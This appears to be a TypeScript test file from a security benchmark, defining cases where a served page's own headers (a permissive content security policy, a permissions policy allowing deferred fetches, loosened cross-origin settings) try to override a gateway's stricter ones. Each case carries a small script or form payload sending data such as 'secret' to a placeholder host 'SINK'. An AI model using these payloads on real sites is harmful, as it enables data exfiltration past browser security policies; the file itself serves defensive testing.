import type { Family } from '../attack.ts';
import { pageAttacks } from '../bench/page-attack.ts';

const ask = "<script>fetch('SINK/asked', { mode: 'no-cors' })</script>";

/** Documents whose own headers would allow what those that the gateway adds do not. */
export const egressHeaders: Family = {
  group: 'egress',
  rows: { 'NET-109': 'headers of a document that allow more' },
  attacks: pageAttacks([
    {
      id: 'NET-109a',
      technique: 'a window in a group of its own',
      headers: {
        'cross-origin-opener-policy': 'same-origin',
        'cross-origin-embedder-policy': 'credentialless',
      },
      page: "<script>open('SINK/window')</script>",
    },
    {
      id: 'NET-109b',
      technique: 'a list of its own of where the document may connect to',
      headers: { 'connection-allowlist': '("SINK/*" "LURE/*")' },
      page: ask,
    },
    {
      id: 'NET-109c',
      technique: 'a content policy that lets it connect to everything',
      headers: {
        'content-security-policy': "default-src * 'unsafe-inline' data: blob:; connect-src *; form-action *",
      },
      page: '<form id="f" action="SINK/form" method="post"><input name="a" value="secret"></form><script>f.submit()</script>',
    },
    {
      id: 'NET-109d',
      technique: 'a policy of permissions that grants all, and a request for later',
      headers: { 'permissions-policy': 'deferred-fetch=*, deferred-fetch-minimal=*, geolocation=*' },
      page: "<script>fetchLater('SINK/later', { method: 'POST', body: 'secret', activateAfter: 0 })</script>",
    },
    {
      id: 'NET-109e',
      technique: 'a policy of permissions that can’t be read, with those of the gateway behind it',
      headers: { 'permissions-policy': 'geolocation=((((, camera' },
      page: ask,
    },
    {
      id: 'NET-109f',
      technique: 'headers that keep nothing of the document from other sites',
      headers: {
        'cross-origin-opener-policy': 'unsafe-none',
        'cross-origin-resource-policy': 'cross-origin',
        'referrer-policy': 'unsafe-url',
        'x-content-type-options': 'none',
        'x-dns-prefetch-control': 'on',
      },
      page: '<link rel="dns-prefetch" href="SINK"><img src="SINK/picture">',
    },
  ]),
  elsewhere: {},
};
